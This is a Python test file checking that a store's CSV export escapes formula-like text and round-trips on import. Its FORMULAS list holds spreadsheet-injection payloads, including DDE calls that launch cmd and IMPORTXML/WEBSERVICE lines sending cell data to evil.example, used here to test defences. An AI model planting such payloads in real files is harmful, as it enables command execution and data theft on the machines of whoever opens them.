"""Store text stays data in every output: CSV cells a spreadsheet would run, direction
and zero-width characters in views and briefs, and problem lists of any length."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import sample_store

from store import Repository, open_store
from store.commands import Commands
from store.exchange import (
    KIND_ORDER,
    export_csv,
    export_csv_files,
    export_json,
    import_path,
)

# -- CSV: cells a spreadsheet would run ----------------------------------------------

# Every one of these would be a formula, or would lose its quote, if written as is.
FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"!A0")',
    "'=1+1",
    "'",
    "''",
    "'tis the season",
    "''=double",
    "-",
    "+",
    "=",
    "@",
    "-1",
    "-1.5",
    "+44 20 7946 0000",
    "@mention of the mediator",
    "=-=",
    "-=1",
    "'@x",
    "  =1+1 after spaces",
    " -x",
    "\uff1d1+1 full width",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "=\u202e1+1",
    "@@",
    "==",
]
# Long text fields may also start with a tab (one-line fields refuse it).
TAB_FORMULAS = ["\t=1+1", "\ttab first", "\t@x", "\t-1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

# Text fields of each kind to fill: (field, may hold a tab).
TEXT_FIELDS: dict[str, list[tuple[str, bool]]] = {
    "actor": [("name", False), ("description", True)],
    "person": [("name", False), ("title", False)],
    "source": [("outlet", False), ("title", False), ("url", False), ("reliability", True)],
    "track": [("title", False), ("description", True), ("region", False)],
    "round": [("title", False), ("outcome", True)],
    "point": [("title", False), ("description", True)],
    "position": [("stance", True), ("gist", False), ("quote", True)],
    "proposal": [("title", False), ("summary", True)],
    "event": [("title", False), ("text", True)],
    "assessment": [("analyst", False), ("affiliation", False), ("gist", True), ("quote", True)],
}


def formula_store(path: Path) -> Repository:
    """The sample, then every text field of every record given a formula-like value."""
    clock = sample_store.Clock()
    repo = open_store(path, clock=clock)
    sample_store.build(repo, clock)
    plain_values = iter(FORMULAS * 20)
    tab_values = iter(TAB_FORMULAS * 20)
    changed = []
    for kind in KIND_ORDER:
        for record in repo.list(kind):
            update: dict[str, Any] = {}
            for name, tab in TEXT_FIELDS[kind]:
                take_tab = tab and len(changed) % 3 == 0 and name not in update
                update[name] = next(tab_values) if take_tab else next(plain_values)
            changed.append(type(record).model_validate({**record.model_dump(), **update}))
    clock.set(2024, 8, 30)
    Commands(repo).put(changed)
    return repo


def test_formula_cells_are_quoted_and_round_trip(tmp_path: Path) -> None:
    with formula_store(tmp_path / "a.json") as repo:
        before = export_json(repo)
        # Every formula-like value is in the store, in more than one kind of record.
        stored = {
            str(v)
            for kind in KIND_ORDER
            for r in repo.list(kind)
            for v in r.model_dump().values()
            if isinstance(v, str)
        }
        assert set(FORMULAS) <= stored and set(TAB_FORMULAS) <= stored
        assert len(FORMULAS) >= 30
        folder = tmp_path / "csv"
        export_csv(repo, folder)
        first = export_csv_files(repo)
    # No cell of any file starts with a character a spreadsheet would run.
    cells = 0
    for name, text in first.items():
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                cells += 1
                assert not cell.startswith(DANGEROUS), (name, cell)
                assert not cell.lstrip(" ").startswith(DANGEROUS), (name, cell)
    assert cells > 100
    assert """'=HYPERLINK(""http://evil.example"",""x"")""" in "".join(first.values())
    with open_store(tmp_path / "b.json") as copy_repo:
        report = import_path(copy_repo, folder)
        assert report.ok, report.problems
        assert report.history_restored
        # Records and history come back exactly, and export to the same files again.
        assert export_json(copy_repo) == before
        assert export_csv_files(copy_repo) == first


def test_numbers_and_dates_are_written_bare_and_still_import(tmp_path: Path) -> None:
    clock = sample_store.Clock()
    with open_store(tmp_path / "a.json", clock=clock) as repo:
        sample_store.build(repo, clock)
        files = export_csv_files(repo)
    rows = list(csv.DictReader(io.StringIO(files["change.csv"])))
    assert rows[0]["seq"] == "1" and rows[0]["at"][:4] == "2024"
    # A negative number in a number column is a number, not text: no quote, and the
    # import reads it as the number (which the history then refuses as a reference).
    rows[-1]["undoes"] = "-3"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    folder = tmp_path / "csv"
    folder.mkdir()
    for name, text in {**files, "change.csv": out.getvalue()}.items():
        (folder / name).write_text(text, encoding="utf-8")
    with open_store(tmp_path / "b.json") as copy_repo:
        report = import_path(copy_repo, folder, dry_run=True)
    reasons = [str(p) for p in report.problems]
    assert reasons and all("undoes change -3" in r for r in reasons), reasons


def test_a_hand_made_cell_keeps_a_quote_that_guards_nothing(tmp_path: Path) -> None:
    clock = sample_store.Clock()
    with open_store(tmp_path / "a.json", clock=clock) as repo:
        sample_store.build(repo, clock)
        files = export_csv_files(repo)
    rows = list(csv.DictReader(io.StringIO(files["actor.csv"])))
    rows[0]["name"] = "'tis an actor"
    rows[1]["name"] = "'=guarded"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    folder = tmp_path / "csv"
    folder.mkdir()
    (folder / "actor.csv").write_text(out.getvalue(), encoding="utf-8")
    with open_store(tmp_path / "b.json") as copy_repo:
        report = import_path(copy_repo, folder)
        assert report.ok, report.problems
        names = {a.id: a.name for a in copy_repo.list("actor")}
    assert names[rows[0]["id"]] == "'tis an actor"
    assert names[rows[1]["id"]] == "=guarded"
